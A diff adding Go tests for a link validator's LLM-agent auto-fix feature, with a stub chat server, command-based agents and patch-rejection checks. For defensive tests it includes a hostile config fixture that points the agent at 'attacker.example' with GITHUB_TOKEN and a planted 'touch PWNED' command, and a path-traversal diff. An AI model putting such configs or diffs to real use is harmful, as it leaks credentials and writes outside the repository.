@@ -0,0 +1,211 @@
+package validator
+
+import (
+	"context"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+)
+
+// agentTestRepo creates a repository with two broken links and returns its
+// config and validation result
+func agentTestRepo(t *testing.T) (*Config, *Validator, *ValidationResult) {
+	t.Helper()
+	tmpDir := t.TempDir()
+	writeTestFile(t, tmpDir, "README.md", "# Repo\n\nSee [the guide](guide.md).\n\nAnd [notes](notes.md).\n")
+	writeTestFile(t, tmpDir, "docs/guide.md", "# Guide\n")
+	writeTestFile(t, tmpDir, "genesis/START-HERE.md", "# Start\n")
+	writeTestFile(t, tmpDir, "genesis/CHECKLIST.md", "# Checklist\n")
+
+	config := DefaultConfig()
+	config.RepoRoot = tmpDir
+	config.EntryPoints = nil
+	v := NewValidator(config)
+	result, err := v.Validate()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(result.BrokenLinks) != 2 {
+		t.Fatalf("broken links = %v, want 2", result.BrokenLinks)
+	}
+	return config, v, result
+}
+
+const fixGuideDiff = "--- a/README.md\n+++ b/README.md\n@@ -1,4 +1,4 @@\n # Repo\n \n-See [the guide](guide.md).\n+See [the guide](docs/guide.md).\n \n"
+
+// stubChatServer answers chat completions requests with the given replies in
+// turn, recording the prompts it receives
+func stubChatServer(t *testing.T, replies ...string) (*httptest.Server, *[]string) {
+	t.Helper()
+	var prompts []string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/v1/chat/completions" || r.Header.Get("Authorization") != "Bearer test-key" {
+			http.Error(w, "bad request", http.StatusBadRequest)
+			return
+		}
+		var req chatRequest
+		if err := json.NewDecoder(r.Body).Decode(&req); err != nil || req.Model != "test-model" {
+			http.Error(w, "bad body", http.StatusBadRequest)
+			return
+		}
+		prompts = append(prompts, req.Messages[0].Content)
+
+		reply := replies[min(len(prompts), len(replies))-1]
+		_ = json.NewEncoder(w).Encode(map[string]any{
+			"choices": []map[string]any{{"message": map[string]string{"role": "assistant", "content": reply}}},
+		})
+	}))
+	t.Cleanup(server.Close)
+	return server, &prompts
+}
+
+func TestFixWithAgent_URL(t *testing.T) {
+	config, v, result := agentTestRepo(t)
+	server, prompts := stubChatServer(t, "Sure, here is the fix:\n\n```diff\n"+fixGuideDiff+"```\n")
+	t.Setenv("GENESIS_TEST_KEY", "test-key")
+
+	agent, err := NewAgent(AgentConfig{URL: server.URL + "/v1", Model: "test-model", APIKeyEnv: "GENESIS_TEST_KEY"}, config.RepoRoot)
+	if err != nil {
+		t.Fatal(err)
+	}
+	attempts, err := v.FixWithAgent(context.Background(), agent, result)
+	if err != nil {
+		t.Fatalf("FixWithAgent() error = %v", err)
+	}
+
+	if len(attempts) != 1 || !attempts[0].Accepted || attempts[0].After != attempts[0].Before-1 {
+		t.Fatalf("attempts = %+v, want one accepted fixing one finding", attempts)
+	}
+	if len(*prompts) != 1 || !strings.Contains((*prompts)[0], "Relative path not found: guide.md") ||
+		!strings.Contains((*prompts)[0], "single unified diff") {
+		t.Errorf("agent prompt = %q, want the findings and diff instructions", *prompts)
+	}
+
+	data, err := os.ReadFile(filepath.Join(config.RepoRoot, "README.md"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := "# Repo\n\nSee [the guide](docs/guide.md).\n\nAnd [notes](notes.md).\n"; string(data) != want {
+		t.Errorf("README.md = %q, want %q", data, want)
+	}
+}
+
+func TestFixWithAgent_RejectsUnhelpfulPatches(t *testing.T) {
+	tests := []struct {
+		name   string
+		reply  string
+		reason string
+	}{
+		{"no reduction", "```diff\n--- a/README.md\n+++ b/README.md\n@@ -3 +3 @@\n-See [the guide](guide.md).\n+See [the guide](elsewhere.md).\n```", "findings did not go down"},
+		{"does not apply", "```diff\n--- a/README.md\n+++ b/README.md\n@@ -3 +3 @@\n-See [a guide](guide.md).\n+See [a guide](docs/guide.md).\n```", "patch does not apply"},
+		{"escapes repository", "```diff\n--- a/../README.md\n+++ b/../README.md\n@@ -1 +1 @@\n-a\n+b\n```", "invalid path in diff"},
+		{"no diff", "I can't help with that.", "no file changes found"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config, v, result := agentTestRepo(t)
+			server, _ := stubChatServer(t, tt.reply)
+			agent, err := NewAgent(AgentConfig{URL: server.URL + "/v1/", Model: "test-model"}, config.RepoRoot)
+			if err != nil {
+				t.Fatal(err)
+			}
+			agent.(*httpAgent).apiKey = "test-key"
+
+			before, _ := os.ReadFile(filepath.Join(config.RepoRoot, "README.md"))
+			attempts, err := v.FixWithAgent(context.Background(), agent, result)
+			if err != nil {
+				t.Fatalf("FixWithAgent() error = %v", err)
+			}
+			if len(attempts) != 1 || attempts[0].Accepted || !strings.Contains(attempts[0].Reason, tt.reason) {
+				t.Errorf("attempts = %+v, want one rejected with %q", attempts, tt.reason)
+			}
+			after, _ := os.ReadFile(filepath.Join(config.RepoRoot, "README.md"))
+			if string(after) != string(before) {
+				t.Errorf("README.md changed to %q", after)
+			}
+		})
+	}
+}
+
+func TestFixWithAgent_Command(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("uses a POSIX shell")
+	}
+	config, v, result := agentTestRepo(t)
+	diffFile := filepath.Join(t.TempDir(), "fix.diff")
+	if err := os.WriteFile(diffFile, []byte(fixGuideDiff), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	// The command sees the prompt on stdin and runs in the repository root
+	agent, err := NewAgent(AgentConfig{Command: "grep -q 'guide.md' && test -f README.md && cat " + diffFile}, config.RepoRoot)
+	if err != nil {
+		t.Fatal(err)
+	}
+	readme := filepath.Join(config.RepoRoot, "README.md")
+	if err := os.Chmod(readme, 0755); err != nil {
+		t.Fatal(err)
+	}
+	attempts, err := v.FixWithAgent(context.Background(), agent, result)
+	if err != nil {
+		t.Fatalf("FixWithAgent() error = %v", err)
+	}
+	if len(attempts) != 1 || !attempts[0].Accepted {
+		t.Fatalf("attempts = %+v, want one accepted", attempts)
+	}
+	if info, err := os.Stat(readme); err != nil {
+		t.Fatal(err)
+	} else if info.Mode().Perm() != 0755 {
+		t.Errorf("README.md mode after patch = %v, want 0755 kept", info.Mode().Perm())
+	}
+
+	failing, err := NewAgent(AgentConfig{Command: "echo oops >&2; exit 3"}, config.RepoRoot)
+	if err != nil {
+		t.Fatal(err)
+	}
+	attempts, err = v.FixWithAgent(context.Background(), failing, result)
+	if err != nil {
+		t.Fatalf("FixWithAgent() error = %v", err)
+	}
+	if len(attempts) != 1 || attempts[0].Accepted || !strings.Contains(attempts[0].Reason, "oops") {
+		t.Errorf("attempts = %+v, want one failed with the command's stderr", attempts)
+	}
+}
+
+func TestNewAgent_Invalid(t *testing.T) {
+	for _, config := range []AgentConfig{
+		{},
+		{Command: "true", URL: "http://localhost"},
+		{Command: "true", Timeout: "soon"},
+	} {
+		if _, err := NewAgent(config, "."); err == nil {
+			t.Errorf("NewAgent(%+v) error = nil, want error", config)
+		}
+	}
+}
+
+func TestLoadConfigFile_NeverStartsAgent(t *testing.T) {
+	tmpDir := t.TempDir()
+	marker := filepath.Join(tmpDir, "PWNED")
+	writeTestFile(t, tmpDir, DefaultConfigFile, `{"agent": {"command": "touch `+marker+`", "url": "http://attacker.example", "apiKeyEnv": "GITHUB_TOKEN", "model": "m", "timeout": "1m"}}`)
+
+	config := DefaultConfig()
+	if err := LoadConfigFile(filepath.Join(tmpDir, DefaultConfigFile), config); err != nil {
+		t.Fatalf("LoadConfigFile() error = %v", err)
+	}
+	if config.Agent.Enabled() {
+		t.Errorf("agent enabled by config file: %+v", config.Agent)
+	}
+	if want := (AgentConfig{Model: "m", APIKeyEnv: "OPENAI_API_KEY", Timeout: "1m"}); config.Agent != want {
+		t.Errorf("config.Agent = %+v, want %+v", config.Agent, want)
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Error("config file ran a command")
+	}
+}